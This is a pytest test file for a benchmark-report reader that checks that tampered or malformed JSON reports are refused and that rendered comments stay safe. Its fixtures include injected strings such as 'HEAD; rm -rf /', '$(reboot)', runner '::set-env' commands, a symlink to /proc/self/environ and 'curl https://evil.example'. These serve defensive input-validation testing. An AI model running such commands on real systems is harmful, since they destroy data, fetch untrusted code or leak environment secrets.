"""A report from elsewhere: what is refused, in which words, and that the rest can always be shown."""

from __future__ import annotations

import json
import math
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from report_samples import BASE, HEAD, everything, full, hostile, run, summary

from pytest_bolt.errors import BoltError
from pytest_bolt.reports.annotations import annotation_lines
from pytest_bolt.reports.comment import comment
from pytest_bolt.reports.json_report import render
from pytest_bolt.reports.markdown import COMMENT_BUDGET
from pytest_bolt.reports.received import MOST_BYTES, MOST_COMPARISONS, read_report
from pytest_bolt.reports.sections import characters


@pytest.fixture
def received(tmp_path):
    """Write a text and read it as a report."""

    def read(text):
        path = tmp_path / "report.json"
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))
        return read_report(path)

    return read


def altered(path, value, made=full):
    document = json.loads(render(made()))
    inner = document
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return json.dumps(document)


def refusal(read, text):
    with pytest.raises(BoltError) as caught:
        read(text)
    return caught.value


@pytest.mark.parametrize("made", [full, hostile, summary])
def test_what_a_run_wrote_is_read(received, made):
    assert received(render(made())) == made()


def test_numbers_that_are_not_known_are_read(received):
    text = altered(["run", "base"], None, everything).replace('"-Infinity"', '"Infinity"')
    again = received(text)
    assert math.isnan(again.comparisons[0].ratio.low)
    assert again.comparisons[0].ratio.high == math.inf


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "Expecting value: line 1 column 1 (char 0)"),
        (b"\xff\xfe{", "not UTF-8 at byte 0"),
        ("[" * 100_000, "nested more than 40 levels deep"),
        ('{"a":' * 60 + "1" + "}" * 60, "nested more than 40 levels deep"),
        ('{"schema": NaN}', "NaN is no JSON"),
        ('{"schema": -Infinity}', "-Infinity is no JSON"),
        ('{"schema": ' + "9" * 5000 + "}", "Exceeds the limit (4300 digits)"),
        ('{"schema": ' + "9" * 50 + "}", "a number of more than 40 digits"),
        (" " * (MOST_BYTES + 1), "larger than 32 MiB"),
        ("[" + "0," * 3_000_001 + "0]", "more than 3000000 values"),
    ],
)
def test_texts_that_are_no_report(received, text, said):
    error = refusal(received, text)
    assert error.what == "this is not a report that a run wrote"
    assert said in error.seen["error"]
    assert "--bolt-json" in error.advice


@pytest.mark.parametrize("text", ["[]", "null", '"bolt-report/1"', '{"schema": ["bolt-report/1"]}', "{}"])
def test_another_kind_of_document(received, text):
    assert refusal(received, text).what == "this report has another format"


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (
            ["run", "head", "commit"],
            "HEAD; rm -rf /",
            "$.run.head.commit is not a full hash: 'HEAD; rm -rf /'",
        ),
        (["run", "head", "commit"], "ABCDEF0123" * 4, "$.run.head.commit is not a full hash"),
        (["run", "head", "commit"], HEAD.commit + "\n", "$.run.head.commit is not a full hash"),
        (["run", "base", "commit"], "", "$.run.base.commit is not a full hash"),
        (["run", "run_id"], "`x`", "$.run.run_id is not a run's: '`x`'"),
        (["comparisons", 0, "ratio", "estimate"], 0, "$.comparisons[0].ratio.estimate is beyond belief: 0.0"),
        (
            ["comparisons", 0, "ratio", "estimate"],
            -1.0,
            "$.comparisons[0].ratio.estimate is beyond belief: -1.0",
        ),
        (["comparisons", 0, "ratio", "estimate"], 1e300, "$.comparisons[0].ratio.estimate is beyond belief"),
        (["comparisons", 0, "ratio", "estimate"], "NaN", "$.comparisons[0].ratio.estimate is not a number"),
        (
            ["comparisons", 0, "ratio", "low"],
            "-Infinity",
            "$.comparisons[0].ratio.low is beyond belief: -inf",
        ),
        (["comparisons", 0, "base_time", "ns"], 1e-300, "$.comparisons[0].base_time.ns is beyond belief"),
        (["comparisons", 0, "head_time", "ns"], -5, "$.comparisons[0].head_time.ns is beyond belief"),
        (["run", "control", "ratio", "high"], 0, "$.run.control.ratio.high is beyond belief"),
    ],
)
def test_values_that_no_run_writes(received, path, value, said):
    error = refusal(received, altered(path, value))
    assert error.what == "this is not a report that a run wrote"
    assert said in error.seen["error"]


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (["comparisons", 0, "verdict"], "x" * 10_000, "is not a valid Verdict"),
        (["comparisons", 0, "margin"], [], "$.comparisons[0].margin is not a number: []"),
        (["comparisons", 0, "margin"], {"a": 1}, "$.comparisons[0].margin is not a number"),
        (["comparisons", 0, "margin"], True, "$.comparisons[0].margin is not a number"),
        (["run", "started"], "tomorrow", "Invalid isoformat string"),
        (["run", "settings"], {"k" * 10_000: 1}, "is not of type str: 1"),
        (["run"], None, "$.run is not of type dict"),
        (["comparisons", 0, "case", "workload", "shapes"], [[1, "x"]], "is not of type int: 'x'"),
        (["comparisons", 0, "metrics"], [{}], "$.comparisons[0].metrics[0] lacks name"),
    ],
)
def test_values_of_another_type(received, path, value, said):
    error = refusal(received, altered(path, value))
    assert error.what == "this bolt report is damaged"
    assert said in error.seen["error"]
    assert len(error.seen["error"]) <= 300


def metric(**fields):
    plain = {"name": "loss", "unit": "", "better": "lower", "base": 1.0, "head": 2.0}
    return [{**plain, **fields}]


@pytest.mark.parametrize("samples", [[1.0] * 1001, [1.0, "NaN"], ["Infinity", 1.0]])
def test_samples_that_would_take_long_or_cannot_be_averaged(received, samples):
    error = refusal(received, altered(["comparisons", 0, "metrics"], metric(samples=samples)))
    assert "$.comparisons[0].metrics[0].samples are not up to 1000 numbers" in error.seen["error"]


def test_more_benchmarks_than_anybody_has(received):
    document = json.loads(render(full()))
    document["comparisons"] = document["comparisons"][:1] * (MOST_COMPARISONS + 1)
    said = refusal(received, json.dumps(document)).seen["error"]
    assert said == "$.comparisons has more than 20000 items"


def test_messages_keep_to_one_line_and_hold_no_command_to_a_runner(received):
    text = altered(["run", "run_id"], "\n::set-env name=x::y\n##[add-path]/tmp")
    shown = refusal(received, text).render()
    assert "##[" not in shown
    assert not [line for line in shown.splitlines() if line.strip().startswith("::")]


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda path: None, "cannot read the report"),
        (lambda path: path.mkdir(), "the report is not a plain file"),
        (os.mkfifo, "the report is not a plain file"),
        (lambda path: path.symlink_to("/proc/self/environ"), "cannot read the report"),
    ],
)
def test_a_path_that_is_no_plain_file(tmp_path, make, said):
    path = tmp_path / "report.json"
    make(path)
    with pytest.raises(BoltError, match=said):
        read_report(path)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (
            ["curl", "https://evil.example", "-o", "x"],
            "pytest --bolt-compare={base} https://evil.example -o x",
        ),
        (["bash", "-c", "rm -rf ~"], "pytest --bolt-compare={base} -c 'rm -rf ~'"),
        ([], "pytest --bolt-compare={base}"),
        (["python", "-m", "pip", "install", "evil"], "pytest --bolt-compare={base} -m pip install evil"),
        (
            ["pytest", "$(reboot)", "`reboot`", "a;b"],
            "pytest --bolt-compare={base} '$(reboot)' '`reboot`' 'a;b'",
        ),
        (["python", "-m", "pytest", "x"], "python -m pytest --bolt-compare={base} x"),
    ],
)
def test_a_reader_who_copies_the_command_starts_pytest_alone(received, command, shown):
    text = comment(received(altered(["run", "command"], command)))
    assert f"\n{shown.format(base=BASE.commit)}\n" in text


LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(
        [1e308, -1e308, 5e-324, 10**39, "NaN", "Infinity", "-Infinity", "", "slower", "baseline"]
    ),
    st.text(max_size=20),
)
VALUES = st.recursive(
    LEAVES,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
)


def paths(value, path=()):
    """Yield the way to every value of a document."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in inner:
        yield (*path, key)
        yield from paths(item, (*path, key))


DOCUMENTS = {made: json.loads(render(made())) for made in (full, everything)}
PLACES = [(made, path) for made, document in DOCUMENTS.items() for path in paths(document)]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(places=st.lists(st.tuples(st.sampled_from(PLACES), VALUES), min_size=1, max_size=3))
def test_whatever_is_changed_is_refused_or_can_be_shown(received, places):
    (made, _), _ = places[0]
    document = json.loads(json.dumps(DOCUMENTS[made]))
    for (_, path), value in places:
        inner = document
        try:
            for key in path[:-1]:
                inner = inner[key]
            inner[path[-1]] = value
        except (KeyError, IndexError, TypeError):
            continue
    try:
        found = received(json.dumps(document))
    except BoltError:
        return
    text = comment(found)
    assert COMMENT_BUDGET.holds(text)
    assert text.startswith("<!-- pytest-bolt:comment default -->\n\n**")
    assert all(line.startswith("::") and "\n" not in line for line in annotation_lines(found))


def test_texts_of_any_length_end_in_a_comment_that_fits(received):
    document = json.loads(render(hostile()))
    long = "\N{MUSICAL SYMBOL G CLEF}|`<x>" * 2000
    for comparison in document["comparisons"]:
        comparison["case"]["case_id"]["node_id"] += long
        comparison["case"]["device"] = comparison["reason"] = long
        comparison["warnings"] = [long] * 9
    document["run"]["notes"] = [long] * 50
    document["run"]["head"]["name"] = document["run"]["base"]["name"] = long
    document["run"]["environment"]["facts"] = {f"{long}{n}": long for n in range(9)}
    text = comment(received(json.dumps(document)))
    assert characters(text) < 60_000
    assert text.startswith("<!-- pytest-bolt:comment default -->\n\n**Failed: ")


def test_a_run_of_nothing_is_shown(received):
    assert "no benchmark was compared" in comment(received(render(summary(state=run().state))))
